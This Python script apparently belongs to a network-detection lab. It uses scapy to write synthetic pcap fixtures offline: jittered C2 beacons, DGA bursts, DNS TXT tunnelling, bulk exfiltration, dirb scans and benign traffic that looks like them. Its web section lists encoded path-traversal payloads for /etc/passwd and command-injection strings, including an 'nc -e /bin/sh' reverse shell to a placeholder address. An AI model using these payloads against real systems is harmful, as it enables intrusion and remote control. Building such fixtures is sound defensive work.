#!/usr/bin/env python3
"""Crafts variations of the C2, DNS, exfiltration and web-attack stories (issue 15, "How it is judged")
offline with scapy (nothing is sent): the stories as other tools and other settings put them on the
wire, and benign traffic that looks like them. Deterministic (fixed clock, seeded RNGs): a rerun gives
byte-identical files. Tests/Fixtures/lab/README.md says what each must yield.

    python3 Tests/Lab/make-variation-captures.py
"""
import base64
import os
import random
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from labpackets import T0, Capture, mac, write_truncated  # noqa: E402
from scapy.all import IP, NTP, TCP, UDP, Ether, Raw  # noqa: E402

BROWSER_UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"


def browse(c, rng, client, start, span, pages, port=50200):
    """Page loads to many CDN addresses at irregular (exponential) times."""
    t = start
    for _ in range(pages):
        t += rng.expovariate(pages / span)
        for _ in range(rng.randrange(2, 6)):
            port += 1
            c.tcp_session(t + rng.uniform(0, 0.5), client, "198.51.100.%d" % rng.randrange(1, 60), port, 443,
                          bytes(rng.randrange(200, 500)), bytes(rng.randrange(300, 1500)), rng)


def beacon(name, seed, client, server, port, period, jitter, span, request, response):
    """Check-ins every `period` seconds (uniform ±`jitter` of it) for `span` seconds, one connection each;
    `request`/`response` give each check-in's bytes; browsing beside it."""
    rng = random.Random(seed)
    c = Capture()
    t, i = T0, 0
    while t < T0 + span:
        c.tcp_session(t, client, server, 49700 + i, port, request(rng, i), response(rng, i), rng)
        t += period * (1 + rng.uniform(-jitter, jitter))
        i += 1
    browse(c, rng, client, T0, span, 12)
    c.write(name)


def c2_variations():
    # An HTTPS beacon every 60 s with ±30 % jitter (Cobalt Strike's sleep 60 jitter 30), an hour.
    beacon("c2-beacon-jitter30.pcap", 2101, "10.20.1.15", "203.0.113.67", 443, 60, 0.30, 3600,
           lambda rng, i: bytes(rng.randrange(256) for _ in range(240 + rng.randrange(-3, 4))), lambda rng, i: bytes(120))

    # An HTTP POST beacon every 45 s (±15 %) to a named host for 40 minutes.
    def post(rng, i):
        body = base64.b64encode(bytes(rng.randrange(256) for _ in range(96)))
        return (b"POST /api/v2/status HTTP/1.1\r\nHost: static-cdn-update.com\r\nUser-Agent: %s\r\n"
                b"Content-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n" % (BROWSER_UA.encode(), len(body))) + body

    beacon("c2-http-post.pcap", 2102, "10.20.1.16", "203.0.113.68", 80, 45, 0.15, 2400, post,
           lambda rng, i: b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 16\r\n\r\n" + bytes(16))

    # A beacon every 60 s (±10 %) whose check-ins and taskings change size (150-2,000 bytes up, 100-2,500 down).
    beacon("c2-beacon-sizes.pcap", 2103, "10.20.1.17", "203.0.113.69", 443, 60, 0.10, 3600,
           lambda rng, i: bytes(rng.randrange(150, 2000)), lambda rng, i: bytes(rng.randrange(100, 2500)))

    # A long-sleep beacon: every 300 s (±10 %) for two hours, 25 check-ins.
    beacon("c2-long-sleep.pcap", 2104, "10.20.1.18", "203.0.113.70", 443, 300, 0.10, 7200,
           lambda rng, i: bytes(rng.randrange(256) for _ in range(200 + rng.randrange(-2, 3))), lambda rng, i: bytes(80))


def benign_periodic():
    """Three hours of a workstation's timers: NTP every 64 s to two servers, a web mail tab polling every
    60 s over one kept-alive HTTPS connection (reopened when the server closes it every 20 minutes),
    an OS update check every 30 min, and CDN fetches at irregular times."""
    rng = random.Random(2105)
    c = Capture()
    client = "10.20.1.30"
    span = 3 * 3600
    for server in ("192.0.2.123", "192.0.2.124"):
        t = T0 + rng.uniform(0, 10)
        while t < T0 + span:
            stamp = t + 2_208_988_800
            c.add(IP(src=client, dst=server) / UDP(sport=123, dport=123) / NTP(sent=stamp, orig=0, recv=0, ref=stamp - 30), t)
            c.add(IP(src=server, dst=client) / UDP(sport=123, dport=123) / NTP(mode=4, sent=stamp + 0.01, orig=stamp, recv=stamp + 0.005,
                                                                               ref=stamp - 30), t + 0.015)
            t += 64
    t, port = T0 + 3, 53000
    while t < T0 + span:
        port += 1
        polls = [(60 * (1 + rng.uniform(-0.02, 0.02)), bytes(150 + rng.randrange(-2, 3)), bytes(rng.choice([60, 60, 60, 500])))
                 for _ in range(20)]
        t = c.keepalive(t, client, "198.51.100.150", port, 443, polls, rng) + rng.uniform(0.5, 3)
    t, port = T0 + 120, 54000
    while t < T0 + span:
        port += 1
        c.tcp_session(t, client, "198.51.100.160", port, 443, bytes(520), bytes(rng.randrange(2000, 2400)), rng)
        t += 1800 * (1 + rng.uniform(-0.05, 0.05))
    browse(c, rng, client, T0, span, 10)
    c.write("benign-periodic-services.pcap")


def dns_variations():
    rng = random.Random(2106)
    c = Capture()
    client, resolver = "10.20.1.40", "10.20.1.1"
    # Three bursts of 20 generated names (letters only, 10-16 characters) twelve minutes apart; 57 NXDOMAIN.
    qid = 100
    for burst in range(3):
        t = T0 + burst * 720
        for i in range(20):
            label = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randrange(10, 17)))
            resolved = (burst, i) in ((0, 7), (1, 13), (2, 4))
            c.dns_pair(t, client, resolver, label + rng.choice([".ru", ".info", ".xyz", ".com"]), qid, 40000 + qid,
                       rcode=0 if resolved else 3, answer="203.0.113.71" if resolved else None)
            qid += 1
            t += rng.uniform(0.05, 0.4)
    for i, name in enumerate(["www.example.com", "mail.example.com", "cdn.example.net", "www.wikipedia.org"]):
        c.dns_pair(T0 + 100 + i * 400, client, resolver, name, 900 + i, 45000 + i, answer="198.51.100.%d" % (10 + i))
    c.write("dns-dga-bursts.pcap")

    # TXT tunnelling at a slow rate: one query every 20 s (±30 %) for an hour, 40 hex characters of data and a
    # sequence number under one domain, each answered with a TXT string of base64.
    rng = random.Random(2107)
    c = Capture()
    client = "10.20.1.41"
    t, i = T0, 0
    while t < T0 + 3600:
        data = "".join(rng.choice("0123456789abcdef") for _ in range(40))
        txt = base64.b64encode(bytes(rng.randrange(256) for _ in range(48))).decode()
        c.dns_pair(t, client, resolver, "%s.%d.d.updates-cdn.net" % (data, i), 200 + i, 41000 + i % 20000, qtype="TXT", txt=txt)
        t += 20 * (1 + rng.uniform(-0.3, 0.3))
        i += 1
    for k, name in enumerate(["www.example.com", "mail.example.com", "cdn.example.net"]):
        c.dns_pair(T0 + 50 + k * 900, client, resolver, name, 9000 + k, 46000 + k, answer="198.51.100.%d" % (20 + k))
    c.write("dns-txt-slow.pcap")

    # Benign CDN names with hashed labels: CloudFront, Akamai, Azure CDN, Fastly, S3, Google video, AMP.
    rng = random.Random(2108)
    c = Capture()
    client = "10.20.1.50"
    hexd = "0123456789abcdef"
    alnum = "0123456789abcdefghijklmnopqrstuvwxyz"

    def h(n, alphabet=hexd):
        return "".join(rng.choice(alphabet) for _ in range(n))

    t = T0
    for i in range(160):
        kind = i % 8
        name = [
            lambda: "d%s.cloudfront.net" % h(12),
            lambda: "%s.akamaized.net" % h(16),
            lambda: "e%d.dscb.akamaiedge.net" % rng.randrange(1000, 99999),
            lambda: "%s-%s.azureedge.net" % (h(6, alnum), h(10, alnum)),
            lambda: "%s.global.ssl.fastly.net" % h(12, alnum),
            lambda: "s3-%s.s3.amazonaws.com" % h(10),
            lambda: "rr%d---sn-%s.googlevideo.com" % (rng.randrange(1, 6), h(8, alnum)),
            lambda: "%s.cdn.ampproject.org" % h(20, alnum),
        ][kind]()
        c.dns_pair(t, client, resolver, name, 300 + i, 42000 + i, answer="198.51.100.%d" % (1 + i % 200))
        t += rng.expovariate(1 / 12)
    c.write("benign-cdn-names.pcap")


def bulk_upload(name, client, server, sport, total, seconds, rng, connections=1):
    """`total` bytes uploaded to server:443 in 64 KB TSO segments over `seconds`, split over parallel
    connections (snap length 96, as tcpdump -s 96 on the sender), the server acknowledging."""
    frames = []
    eth = lambda s, d: Ether(src=mac(s), dst=mac(d))  # noqa: E731
    each = total // connections
    for k in range(connections):
        port = sport + k
        cs, ss, t = 1000 + k * 7919, 5000 + k * 104729, T0 + k * 0.2
        frames.append((t, eth(client, server) / IP(src=client, dst=server) / TCP(sport=port, dport=443, flags="S", seq=cs)))
        frames.append((t + 0.03, eth(server, client) / IP(src=server, dst=client) / TCP(sport=443, dport=port, flags="SA", seq=ss, ack=cs + 1)))
        frames.append((t + 0.0302, eth(client, server) / IP(src=client, dst=server) / TCP(sport=port, dport=443, flags="A", seq=cs + 1, ack=ss + 1)))
        seq, sent, t = cs + 1, 0, t + 0.05
        while sent < each:
            size = min(64000, each - sent)
            frames.append((t, eth(client, server) / IP(src=client, dst=server) / TCP(sport=port, dport=443, flags="PA", seq=seq, ack=ss + 1)
                           / Raw(bytes(size))))
            seq += size
            sent += size
            frames.append((t + 0.03, eth(server, client) / IP(src=server, dst=client) / TCP(sport=443, dport=port, flags="A", seq=ss + 1, ack=seq)))
            t += seconds / (each / 64000) * rng.uniform(0.8, 1.2)
        frames.append((t, eth(client, server) / IP(src=client, dst=server) / TCP(sport=port, dport=443, flags="FA", seq=seq, ack=ss + 1)))
        frames.append((t + 0.03, eth(server, client) / IP(src=server, dst=client) / TCP(sport=443, dport=port, flags="FA", seq=ss + 1, ack=seq + 1)))
        frames.append((t + 0.0302, eth(client, server) / IP(src=client, dst=server) / TCP(sport=port, dport=443, flags="A", seq=seq + 1, ack=ss + 2)))
    write_truncated(name, frames)


def exfil_variations():
    # 40 MB to one external address over HTTPS in four parallel connections (rclone-style), 8 minutes.
    bulk_upload("exfil-https-40mb.pcap", "10.20.1.60", "203.0.113.91", 50800, 40_000_000, 480, random.Random(2109), connections=4)


def http_get(target, ua, host="intranet.example.test"):
    return b"GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n" % (target.encode(), host.encode(), ua.encode())


def http_answer(status, body=b""):
    reason = {200: b"OK", 400: b"Bad Request", 403: b"Forbidden", 404: b"Not Found", 500: b"Internal Server Error"}[status]
    return b"HTTP/1.1 %d %s\r\nServer: nginx/1.24.0\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % (status, reason, len(body)) + body


def web_variations():
    server = "10.66.0.10"
    # dirb's default wordlist run with its default (browser-like) User-Agent: 240 paths, 50 per connection,
    # 234 answered 404, 3 answered 403, 3 answered 200.
    rng = random.Random(2110)
    c = Capture()
    words = ["admin", "backup", "cgi-bin", "config", "css", "data", "db", "debug", "dev", "docs", "download", "files", "images",
             "img", "include", "js", "lib", "log", "logs", "old", "private", "scripts", "secret", "server-status", "setup", "sql",
             "staff", "static", "temp", "test", "tmp", "upload", "uploads", "user", "users", "vendor", "web", "webadmin", "wp-admin",
             "xml"]
    paths = ["/%s%s" % (w, suffix) for suffix in ("", "/", ".php", ".bak", ".old", ".txt") for w in words]
    found = {"/css/": 200, "/images/": 200, "/js/": 200, "/admin/": 403, "/private/": 403, "/server-status": 403}
    t = T0
    for k in range(0, len(paths), 50):
        exchanges = []
        for p in paths[k:k + 50]:
            status = found.get(p, 404)
            exchanges.append((0.004, http_get(p, "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"),
                              http_answer(status, b"<html>%d</html>" % status)))
        t = c.keepalive(t, "10.66.0.7", server, 47000 + k, 80, exchanges, rng, rtt=0.001) + 0.01
    c.write("web-dirb-404.pcap")

    # Encoded path traversal answered 200 with the file, then command injection answered with errors.
    rng = random.Random(2111)
    c = Capture()
    passwd = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    traversal = ["/download.php?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/static/..%c0%af..%c0%af..%c0%afetc/passwd",
                 "/files/..%252f..%252f..%252fetc%252fpasswd", "/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
                 "/view?page=..%5c..%5c..%5cwindows%5cwin.ini", "/img?f=....%2f%2f....%2f%2fetc%2fpasswd"]
    commands = ["/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "/ping?host=127.0.0.1%0aid", "/ping?host=x%7C%7Cwhoami",
                "/ping?host=%24(id)", "/ping?host=127.0.0.1%26%26ls%20-la", "/ping?host=127.0.0.1%3Bnc%20-e%20/bin/sh%20203.0.113.5%204444"]
    exchanges = [(0.3, http_get(p, BROWSER_UA), http_answer(200, passwd)) for p in traversal]
    t = c.keepalive(T0, "10.66.0.8", server, 47500, 80, exchanges, rng)
    exchanges = [(0.3, http_get(p, BROWSER_UA), http_answer(400 if k % 2 else 500, b"<html>error</html>")) for k, p in enumerate(commands)]
    c.keepalive(t + 2, "10.66.0.8", server, 47501, 80, exchanges, rng)
    c.write("web-encoded-traversal-cmd.pcap")


if __name__ == "__main__":
    c2_variations()
    benign_periodic()
    dns_variations()
    exfil_variations()
    web_variations()
